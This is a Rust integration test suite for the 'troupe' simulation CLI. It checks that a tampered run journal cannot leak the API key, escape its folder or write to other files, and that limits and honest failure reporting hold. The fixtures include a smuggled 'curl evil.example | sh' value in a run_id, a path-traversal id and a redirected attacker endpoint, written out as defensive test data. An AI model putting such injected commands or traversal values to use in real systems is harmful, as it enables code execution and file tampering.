//! Trust nothing from outside (issue 12, sections 1 to 4): a shared run folder cannot send the
//! key elsewhere, write outside its folder or append to other files; one process owns a run
//! folder; every number and input file is bounded; and a run never reports a better outcome than
//! it had. Each test drives the `troupe` binary the way a user does, against the simulated
//! provider or a loopback mock (127.0.0.1, port 0).

mod support {
    pub mod cli;
    pub mod mock_openai;
}

use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::Value;
use support::cli::{Done, ROOT, run_dirs, run_within, troupe};
use support::mock_openai::{Canned, MockConfig, MockServer};

const CANARY: &str = "sk-canary-untrusted-5e1d9b77c0a4";
const LIMIT: Duration = Duration::from_secs(120);

const PERSONAS: &str = "sarah_chen,marcus_rivera,aisha_okafor";

/// A finished run with the simulated provider; returns its folder.
fn simulated_run(out: &Path, turns: u32, extra: &[&str]) -> PathBuf {
    let turns = turns.to_string();
    let mut c = troupe();
    c.args(["run", "--seed", "Should the clinic open on Saturdays?", "--personas", PERSONAS, "--turns", &turns])
        .args(["--run-seed", "5", "--rate-limit-delay", "0", "-q", "--set", "llm.provider=simulated"])
        .arg("--output-dir")
        .arg(out)
        .args(extra);
    let d = run_within(&mut c, LIMIT);
    assert_eq!(d.code, Some(0), "{}", d.both());
    let dirs = run_dirs(out);
    assert_eq!(dirs.len(), 1, "{dirs:?}");
    dirs[0].clone()
}

fn journal_lines(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("journal.jsonl"))
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn write_journal(dir: &Path, lines: &[Value]) {
    let text: String = lines.iter().map(|v| format!("{v}\n")).collect();
    std::fs::write(dir.join("journal.jsonl"), text).unwrap();
}

/// Makes a finished run look interrupted after its `keep`-th exchange (`None`: after all of
/// them, but before the end was recorded), and edits its header.
fn interrupt(dir: &Path, keep: Option<usize>, edit: impl FnOnce(&mut Value)) {
    let mut lines = journal_lines(dir);
    edit(&mut lines[0]["header"]);
    let mut out = vec![lines[0].clone()];
    let mut seen = 0;
    for l in &lines[1..] {
        if l["event"] == "finished" {
            break;
        }
        if l["event"] == "exchange" {
            if keep == Some(seen) {
                break;
            }
            seen += 1;
        }
        out.push(l.clone());
    }
    write_journal(dir, &out);
    let _ = std::fs::remove_file(dir.join("results.json"));
}

fn resume(dir: &Path, extra: &[&str], env: &[(&str, &str)]) -> Done {
    let mut c = troupe();
    c.arg("resume").arg(dir).arg("-q").args(extra);
    for (k, v) in env {
        c.env(k, v);
    }
    run_within(&mut c, LIMIT)
}

fn results(dir: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(dir.join("results.json")).expect("results.json")).unwrap()
}

// ---------------------------------------------------------------------------------------------
// 1. A run folder is untrusted input

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shared_run_folder_cannot_send_the_key_elsewhere() {
    let attacker = MockServer::start(MockConfig::default()).await;
    let mine = MockServer::start(MockConfig::default()).await;
    let tmp = tempfile::tempdir().unwrap();
    let dir = simulated_run(&tmp.path().join("out"), 2, &[]);
    let evil = attacker.base_url();
    interrupt(&dir, Some(2), |h| {
        h["provider"] = "openai".into();
        h["endpoints"] = serde_json::json!([evil]);
        h["config"]["llm"]["provider"] = "openai".into();
        h["config"]["llm"]["base_url"] = evil.clone().into();
    });
    let env = [("OPENAI_API_KEY", CANARY), ("OPENAI_BASE_URL", &mine.base_url() as &str)];

    // The difference is shown, and nothing is sent without an explicit yes.
    let d = resume(&dir, &[], &env);
    assert_eq!(d.code, Some(2), "{}", d.both());
    assert!(d.stderr.contains(&evil) && d.stderr.contains("--allow-provider-change"), "{}", d.both());
    assert_eq!(attacker.request_count(), 0);
    assert_eq!(mine.request_count(), 0);
    assert!(!d.stderr.contains(CANARY));

    // With it, the calls go where the current configuration says, never where the journal says.
    let d = resume(&dir, &["--allow-provider-change"], &env);
    assert_eq!(d.code, Some(0), "{}", d.both());
    assert_eq!(attacker.request_count(), 0, "the key went to the journal's server");
    let recs = mine.requests();
    assert!(!recs.is_empty());
    for r in &recs {
        assert_eq!(r.header("authorization"), Some(format!("Bearer {CANARY}").as_str()));
    }
}

#[test]
fn a_shared_run_folder_cannot_choose_where_files_go() {
    let tmp = tempfile::tempdir().unwrap();
    // Deep enough that `../../..` from the run folder still lands inside the temp folder.
    let out = tmp.path().join("a/b/c");
    let dir = simulated_run(&out, 2, &[]);
    let absolute = tmp.path().join("absolute-target");
    for (i, run_id) in ["../../../escaped", absolute.to_str().unwrap()].into_iter().enumerate() {
        interrupt(&dir, Some(1 + i), |h| h["run_id"] = run_id.into());
        let d = resume(&dir, &[], &[]);
        assert_eq!(d.code, Some(0), "{}", d.both());
        assert!(!tmp.path().join("a/escaped").exists(), "resume wrote outside the run folder");
        assert!(!absolute.exists(), "resume wrote to the journal's absolute path");
        let r = results(&dir);
        assert_eq!(r["run_id"], dir.file_name().unwrap().to_str().unwrap(), "the id comes from the folder");
    }
}

#[test]
fn a_shared_run_folder_cannot_append_to_other_files() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = simulated_run(&tmp.path().join("out"), 2, &[]);
    let rc = tmp.path().join("bashrc");
    std::fs::write(&rc, "# mine\n").unwrap();
    interrupt(&dir, Some(2), |h| {
        h["config"]["monitoring"]["log_file"] = rc.to_str().unwrap().into();
        h["config"]["monitoring"]["log_level"] = "TRACE".into();
        h["run_id"] = "x\ncurl evil.example | sh\n".into();
    });
    let d = resume(&dir, &[], &[]);
    assert_eq!(d.code, Some(0), "{}", d.both());
    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# mine\n", "the journal's log_file was written");
    for name in ["results.json", "journal.jsonl", "transcript.jsonl"] {
        let text = std::fs::read_to_string(dir.join(name)).unwrap();
        assert!(!text.contains("curl evil.example"), "{name} took the journal's run_id");
    }
}

#[test]
fn a_header_of_the_wrong_shape_is_named_with_its_line_and_field() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = simulated_run(&tmp.path().join("out"), 2, &[]);
    let pristine = journal_lines(&dir);
    type Edit = Box<dyn Fn(&mut Value)>;
    let cases: Vec<(&str, Edit)> = vec![
        ("timeout_seconds", Box::new(|h| h["config"]["performance"]["timeout_seconds"] = "soon".into())),
        ("performance.timeout_seconds", Box::new(|h| h["config"]["performance"]["timeout_seconds"] = 1e300.into())),
        ("max_turns", Box::new(|h| h["config"]["simulation"]["max_turns"] = 4_294_967_295u64.into())),
        ("temperature", Box::new(|h| h["plan"]["personas"][0]["temperature"] = 3.5.into())),
        ("provider", Box::new(|h| h["provider"] = "x".repeat(5000).into())),
    ];
    for (needle, edit) in cases {
        write_journal(&dir, &pristine);
        interrupt(&dir, Some(1), |h| edit(h));
        let d = resume(&dir, &[], &[]);
        assert_eq!(d.code, Some(2), "{needle}: {}", d.both());
        assert!(d.stderr.contains("journal.jsonl:1:") && d.stderr.contains(needle), "{needle}: {}", d.both());
        assert!(!d.stderr.contains("panicked"), "{}", d.both());
    }
}

// ---------------------------------------------------------------------------------------------
// 2. Only one process owns a run folder

#[test]
fn a_busy_run_folder_is_refused_with_the_holders_pid() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = simulated_run(&tmp.path().join("out"), 2, &[]);
    let held = troupe_sim::fsutil::DirLock::acquire(&dir, "a test holding the folder").unwrap();
    for args in [vec!["analyze"], vec!["export", "--format", "json"], vec!["resume"]] {
        if args[0] == "resume" {
            interrupt(&dir, Some(2), |_| {});
        }
        let mut c = troupe();
        c.args(&args).arg(&dir);
        let d = run_within(&mut c, LIMIT);
        assert_eq!(d.code, Some(1), "{args:?}: {}", d.both());
        let pid = format!("pid {}", std::process::id());
        assert!(d.stderr.contains("in use") && d.stderr.contains(&pid), "{args:?}: {}", d.both());
    }
    assert!(!dir.join("journal.1.jsonl").exists(), "a refused resume touched the journal");
    drop(held);
    assert_eq!(resume(&dir, &[], &[]).code, Some(0));
}

#[test]
fn two_resumes_at_once_pay_once() {
    let tmp = tempfile::tempdir().unwrap();
    // Slow calls, so the first resume is still running when the second starts.
    let dir = simulated_run(&tmp.path().join("out"), 3, &["--set", "llm.simulated.latency.ms=150"]);
    let full: Vec<Value> = journal_lines(&dir).into_iter().filter(|l| l["event"] == "exchange").collect();
    interrupt(&dir, Some(1), |_| {});
    let first = troupe()
        .arg("resume")
        .arg(&dir)
        .arg("-q")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Wait until the first one holds the folder (it rotates the journal once it does).
    let t0 = std::time::Instant::now();
    while !dir.join("journal.1.jsonl").exists() {
        assert!(t0.elapsed() < LIMIT, "the first resume never started");
        std::thread::sleep(Duration::from_millis(10));
    }
    let second = resume(&dir, &[], &[]);
    let first = first.wait_with_output().unwrap();
    assert_eq!(first.status.code(), Some(0), "{}", String::from_utf8_lossy(&first.stderr));
    assert_eq!(second.code, Some(1), "{}", second.both());
    assert!(second.stderr.contains("pid ") && second.stderr.contains("in use"), "{}", second.both());
    assert!(!dir.join("journal.2.jsonl").exists(), "the second resume wrote a journal segment");
    // Every exchange was paid once: the new segment pays exactly what the first lacked.
    let paid = journal_lines(&dir).into_iter().filter(|l| l["event"] == "exchange" && l["replayed"] != true).count();
    assert_eq!(paid, full.len() - 1);
}

// ---------------------------------------------------------------------------------------------
// 3. Every number is bounded

fn run_adhoc(extra: &[&str]) -> Done {
    let mut c = troupe();
    c.args(["run", "--seed", "t", "--personas", "sarah_chen", "--no-save", "-q", "--rate-limit-delay", "0"])
        .args(["--set", "llm.provider=simulated"])
        .args(extra);
    run_within(&mut c, LIMIT)
}

#[test]
fn huge_numbers_are_refused_with_the_key_and_the_bound() {
    for (key, value) in [
        ("performance.timeout_seconds", "1e300"),
        ("performance.persona_timeout", "1e300"),
        ("performance.backoff_base", "1e300"),
        ("performance.backoff_max", "1e300"),
        ("performance.rate_limit_delay", "1e300"),
        ("llm.simulated.latency.ms", "1e300"),
        ("llm.simulated.latency.p99_ms", "1e300"),
        ("llm.simulated.faults.retry_after_secs", "1e300"),
        ("performance.max_retries", "4294967295"),
        ("simulation.max_turns", "4294967295"),
        ("llm.max_cost_usd", "-1"),
        ("performance.max_workers", "100000000"),
    ] {
        let d = run_adhoc(&["--set", &format!("{key}={value}")]);
        assert_eq!(d.code, Some(2), "{key}: {}", d.both());
        assert!(d.stderr.contains(key), "{key}: {}", d.both());
        assert!(d.stderr.contains("at most") || d.stderr.contains("between"), "{key}: {}", d.both());
    }
    let d = run_adhoc(&["--turns", "4294967295"]);
    assert_eq!(d.code, Some(2), "{}", d.both());
    assert!(d.stderr.contains("simulation.max_turns"), "{}", d.both());
}

#[test]
fn endless_input_files_are_refused_not_read_forever() {
    let zero = "/dev/zero";
    let cases: Vec<Vec<&str>> = vec![
        vec!["run", zero, "-q", "--no-save"],
        vec!["--config", zero, "run", "--seed", "t", "--personas", "sarah_chen", "--no-save"],
        vec!["--config-ini", zero, "run", "--seed", "t", "--personas", "sarah_chen", "--no-save"],
        vec![
            "run",
            "--seed",
            "t",
            "--personas",
            "sarah_chen",
            "--no-save",
            "--set",
            "simulation.personas_file=/dev/zero",
        ],
        vec!["scenario", "check", zero],
    ];
    for args in cases {
        let mut c = troupe();
        c.args(&args).args(["--set", "llm.provider=simulated"]);
        let d = run_within(&mut c, Duration::from_secs(30));
        assert_eq!(d.code, Some(2), "{args:?}: {}", d.both());
        assert!(d.stderr.contains("/dev/zero") && d.stderr.contains("larger than"), "{args:?}: {}", d.both());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retry_after_of_an_hour_is_cut_and_recorded() {
    let mut cfg = MockConfig::default();
    cfg.script.push_back(Canned::error(429, "slow down", "rate_limit_exceeded").header("retry-after", "3600"));
    let mock = MockServer::start(cfg).await;
    let tmp = tempfile::tempdir().unwrap();
    let mut c = troupe();
    c.args(["run", "--seed", "t", "--personas", "sarah_chen", "--turns", "1", "-q", "--rate-limit-delay", "0"])
        .args(["--set", "llm.provider=openai", "--set", &format!("llm.base_url={}", mock.base_url())])
        .args(["--set", "llm.retry_after_max=0.2", "--set", "performance.backoff_base=0"])
        .arg("--output-dir")
        .arg(tmp.path());
    let d = run_within(&mut c, Duration::from_secs(60));
    assert_eq!(d.code, Some(0), "{}", d.both());
    assert!(d.took < Duration::from_secs(30), "waited {:?}", d.took);
    assert_eq!(mock.request_count(), 2);
    let dir = &run_dirs(tmp.path())[0];
    let retry = journal_lines(dir).into_iter().find(|l| l["event"] == "retry").expect("a retry record");
    let said = retry["error"].as_str().unwrap();
    assert!(said.contains("3600 s") && said.contains("llm.retry_after_max"), "{said}");
}

#[test]
fn debug_logging_survives_twenty_thousand_turns() {
    let mut c = troupe();
    c.env("RUST_LOG", "debug")
        .args(["run", "--seed", "t", "--personas", "sarah_chen", "--turns", "20000", "--no-save", "-q"])
        .args(["--rate-limit-delay", "0", "--set", "llm.provider=simulated", "--set", "simulation.memory_recent=2"])
        .args(["--set", "simulation.memory_prefix=1"]);
    let d = run_within(&mut c, Duration::from_secs(300));
    assert_eq!(d.code, Some(0), "{}", &d.both()[..d.both().len().min(4000)]);
    assert!(!d.stderr.contains("overflowed its stack"));
}

// ---------------------------------------------------------------------------------------------
// 4. An outcome is never better than the truth

fn openai_run(mock: &MockServer, out: &Path, extra: &[&str]) -> Done {
    let mut c = troupe();
    c.args(["run", "--seed", "t", "--personas", PERSONAS, "--turns", "4", "-q", "--rate-limit-delay", "0"])
        .args(["--set", "llm.provider=openai", "--set", &format!("llm.base_url={}", mock.base_url())])
        .args(["--set", "performance.max_retries=1", "--set", "performance.backoff_base=0"])
        .arg("--output-dir")
        .arg(out)
        .args(extra)
        .env("OPENAI_API_KEY", CANARY);
    run_within(&mut c, LIMIT)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_where_every_call_fails_is_not_a_success() {
    let mock = MockServer::start(MockConfig { error_rate: 1.0, ..MockConfig::default() }).await;
    let tmp = tempfile::tempdir().unwrap();
    let d = openai_run(&mock, tmp.path(), &[]);
    assert_eq!(d.code, Some(1), "{}", d.both());
    let r = results(&run_dirs(tmp.path())[0]);
    assert_eq!(r["success"], false);
    assert_eq!(r["stop_reason"]["kind"], "failed", "{}", r["stop_reason"]);
    assert!(r["stop_reason"]["detail"].as_str().unwrap().contains("failed"), "{}", r["stop_reason"]);
    // It stopped after the first turn rather than paying for four turns of failures.
    assert!(mock.request_count() <= 3 * 2, "{} requests", mock.request_count());
    assert!(d.stderr.contains("error:"), "{}", d.both());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_key_stops_the_run_at_once_and_is_never_retried() {
    let mock =
        MockServer::start(MockConfig { require_key: Some("sk-the-right-one".into()), ..MockConfig::default() }).await;
    let tmp = tempfile::tempdir().unwrap();
    let d = openai_run(&mock, tmp.path(), &["--set", "performance.max_retries=5"]);
    assert_eq!(d.code, Some(1), "{}", d.both());
    assert_eq!(mock.request_count(), 1, "an authentication failure was retried or the run went on");
    let r = results(&run_dirs(tmp.path())[0]);
    assert_eq!(r["success"], false);
    let why = r["stop_reason"]["detail"].as_str().unwrap();
    assert!(why.contains("troupe doctor") && why.contains("401"), "{why}");
    assert!(!d.stderr.contains(CANARY));
}

#[test]
fn nothing_listening_fails_fast_without_colour_codes_in_a_pipe() {
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let tmp = tempfile::tempdir().unwrap();
    let mut c = troupe();
    c.args(["run", "--seed", "t", "--personas", PERSONAS, "--turns", "6", "--rate-limit-delay", "0"])
        .args(["--set", "llm.provider=openai", "--set", &format!("llm.base_url=http://127.0.0.1:{port}/v1")])
        .arg("--output-dir")
        .arg(tmp.path());
    let d = run_within(&mut c, Duration::from_secs(60));
    assert_eq!(d.code, Some(1), "{}", d.both());
    assert!(d.took < Duration::from_secs(20), "took {:?}", d.took);
    assert!(d.stderr.contains("cannot be reached") && d.stderr.contains("troupe doctor"), "{}", d.both());
    assert!(!d.stderr.contains('\u{1b}'), "ANSI codes in a pipe: {}", d.both());
    assert!(d.stderr.matches("WARN").count() <= 3, "{}", d.both());
}

fn personas_file(dir: &Path, personas: Value) -> PathBuf {
    let p = dir.join("personas.json");
    std::fs::write(&p, serde_json::to_vec_pretty(&personas).unwrap()).unwrap();
    p
}

fn persona(id: &str, name: &str) -> Value {
    serde_json::json!({
        "type": "TinyPerson", "id": id, "name": name, "role": "Nurse", "description": "A night-shift nurse",
        "personality": {"traits": ["calm"], "goals": ["safe staffing"], "style": "plain",
                        "communication": "direct", "decisions": "data-driven", "approach": "pragmatic"}
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn runs_without_a_scenario_validate_their_personas() {
    let mock = MockServer::start(MockConfig::default()).await;
    let tmp = tempfile::tempdir().unwrap();
    let mut hot = persona("hot", "Hot Head");
    hot["temperature"] = 3.5.into();
    let mut huge = persona("huge", "Huge Field");
    huge["description"] = "x".repeat(50 << 20).into();
    let cases = [
        ("hot", serde_json::json!([hot, persona("ok", "Fine One")]), "temperature"),
        ("twin", serde_json::json!([persona("twin", "Twin One"), persona("twin", "Twin Two")]), "duplicate id"),
        ("huge", serde_json::json!([huge]), "description"),
    ];
    for (id, db, needle) in cases {
        let file = personas_file(tmp.path(), db);
        let mut c = troupe();
        c.args(["run", "--seed", "t", "--personas", id, "--turns", "1", "--no-save", "-q", "--rate-limit-delay", "0"])
            .args(["--set", "llm.provider=openai", "--set", &format!("llm.base_url={}", mock.base_url())])
            .arg("--set")
            .arg(format!("simulation.personas_file={}", file.display()));
        let d = run_within(&mut c, LIMIT);
        assert_eq!(d.code, Some(2), "{id}: {}", &d.both()[..d.both().len().min(3000)]);
        assert!(d.stderr.contains(needle), "{id}: {}", &d.stderr[..d.stderr.len().min(3000)]);
    }
    assert_eq!(mock.request_count(), 0, "an invalid persona reached the server");
}

#[test]
fn a_journal_that_cannot_be_written_stops_the_run_at_once() {
    let tmp = tempfile::tempdir().unwrap();
    let bin = assert_cmd::cargo::cargo_bin("troupe");
    // Files may not grow past 64 KiB: the journal, which grows fastest, fails first (EFBIG).
    let script = format!(
        "trap '' XFSZ; ulimit -f 64; exec '{}' run --seed t --personas {PERSONAS} --turns 40 --rate-limit-delay 0 \
         --set llm.provider=simulated --output-dir '{}'",
        bin.display(),
        tmp.path().display()
    );
    let mut c = std::process::Command::new("bash");
    support::cli::scrub(c.current_dir(ROOT).args(["-c", &script]));
    let d = run_within(&mut c, LIMIT);
    assert_eq!(d.code, Some(1), "{}", d.both());
    assert!(d.stderr.contains("journal.jsonl"), "the error does not name the journal: {}", d.both());
    let dir = &run_dirs(tmp.path())[0];
    let j = troupe_sim::record::journal::read_journal(&dir.join("journal.jsonl")).unwrap();
    use troupe_sim::record::transcript::RunEvent;
    // What the terminal shows: messages, passes, skips and interventions.
    let journaled = j
        .records
        .iter()
        .filter(|r| {
            matches!(
                r,
                RunEvent::Message(_) | RunEvent::Passed { .. } | RunEvent::Skipped(_) | RunEvent::Intervention { .. }
            )
        })
        .count();
    let shown = d.stdout.lines().filter(|l| l.starts_with('[')).count();
    assert!(journaled > 0);
    assert!(shown <= journaled, "{shown} messages shown but {journaled} journaled: the run went on unrecorded");
}

#[cfg(unix)]
#[test]
fn sigterm_saves_like_ctrl_c() {
    let tmp = tempfile::tempdir().unwrap();
    let mut child = troupe()
        .args(["run", "--seed", "t", "--personas", PERSONAS, "--turns", "30", "-q", "--rate-limit-delay", "0"])
        .args(["--set", "llm.provider=simulated", "--set", "llm.simulated.latency.ms=100"])
        .arg("--output-dir")
        .arg(tmp.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let t0 = std::time::Instant::now();
    loop {
        let has_message = run_dirs(tmp.path())
            .first()
            .is_some_and(|d| std::fs::read_to_string(d.join("transcript.jsonl")).is_ok_and(|t| t.lines().count() >= 3));
        if has_message {
            break;
        }
        assert!(t0.elapsed() < LIMIT, "the run never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    // SAFETY: kill(2) on our own child's pid.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(1), "a stopped run is not a success");
    let r = results(&run_dirs(tmp.path())[0]);
    assert_eq!(r["stop_reason"]["kind"], "cancelled");
    assert_eq!(r["success"], false);
}

#[tokio::test(start_paused = true)]
async fn replayed_exchanges_are_free_and_instant() {
    use troupe_sim::config::{ProviderKind, SimulationConfig};
    use troupe_sim::engine::{RunOptions, RunPlan, SimulationEngine};
    let tmp = tempfile::tempdir().unwrap();
    let db = troupe_sim::persona::PersonaDatabase::load(&Path::new(ROOT).join("data/personas.agents.json")).unwrap();
    let personas = PERSONAS.split(',').map(|id| db.get(id).unwrap().clone()).collect();
    let mut cfg = SimulationConfig::default();
    cfg.llm.provider = ProviderKind::Simulated;
    cfg.llm.pricing_file = Path::new(ROOT).join("config/pricing.toml");
    cfg.simulation.personas_file = Path::new(ROOT).join("data/personas.agents.json");
    cfg.simulation.max_turns = 4;
    cfg.performance.rate_limit_delay = 0.0;
    cfg.output.auto_analysis = false;
    let engine = SimulationEngine::new(cfg.clone()).unwrap();
    let opts = RunOptions { save_under: Some(tmp.path().to_path_buf()), ..Default::default() };
    let first = engine.run(RunPlan::ad_hoc("Should the clinic open on Saturdays?", personas), opts).await.unwrap();
    let dir = first.run_dir.clone().unwrap();
    // The recorded run paced its calls 2 s apart; all 12 of its exchanges are in the journal,
    // but the run was cut before it could record its end.
    interrupt(&dir, None, |h| h["config"]["performance"]["rate_limit_delay"] = 2.0.into());
    let t0 = tokio::time::Instant::now();
    let handle = troupe_sim::engine::resume::resume(&dir, &cfg, Default::default(), RunOptions::default())
        .await
        .expect("resume");
    let again = handle.wait().await.unwrap();
    assert!(again.success, "{:?}", again.error);
    assert_eq!(again.metrics.counts.api_calls, first.metrics.counts.api_calls);
    assert!(t0.elapsed() < Duration::from_secs(1), "replayed exchanges waited {:?} for pacing", t0.elapsed());
}

#[cfg(unix)]
#[test]
fn sigterm_stops_an_experiment_with_its_runs_saved_and_a_summary() {
    let tmp = tempfile::tempdir().unwrap();
    let child = troupe()
        .args(["experiment", "scenarios/content_moderation.ron", "--variants", "baseline,cautious", "--runs", "4"])
        .args(["--turns", "20", "-q", "--set", "llm.provider=simulated", "--set", "llm.simulated.latency.ms=50"])
        .arg("--output-dir")
        .arg(tmp.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let experiments = tmp.path().join("experiments");
    let t0 = std::time::Instant::now();
    // Wait until the first run has said something.
    let started = || -> bool {
        let Ok(mut exps) = std::fs::read_dir(&experiments) else { return false };
        let Some(Ok(exp)) = exps.next() else { return false };
        walk(&exp.path())
            .iter()
            .any(|p| p.ends_with("transcript.jsonl") && std::fs::metadata(p).is_ok_and(|m| m.len() > 0))
    };
    while !started() {
        assert!(t0.elapsed() < LIMIT, "the experiment never started");
        std::thread::sleep(Duration::from_millis(20));
    }
    // SAFETY: kill(2) on our own child's pid.
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    let exp = std::fs::read_dir(&experiments).unwrap().next().unwrap().unwrap().path();
    let summary: Value =
        serde_json::from_slice(&std::fs::read(exp.join("summary.json")).expect("summary.json")).unwrap();
    assert_eq!(summary["stopped"], true);
    let made = summary["runs"].as_array().unwrap().len();
    assert!((1..8).contains(&made), "{made} runs in the summary");
    // Every run that started saved its results (the stopped ones as cancelled).
    let results: Vec<PathBuf> = walk(&exp).into_iter().filter(|p| p.ends_with("results.json")).collect();
    assert_eq!(results.len(), made);
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() { stack.push(p) } else { out.push(p) }
        }
    }
    out
}
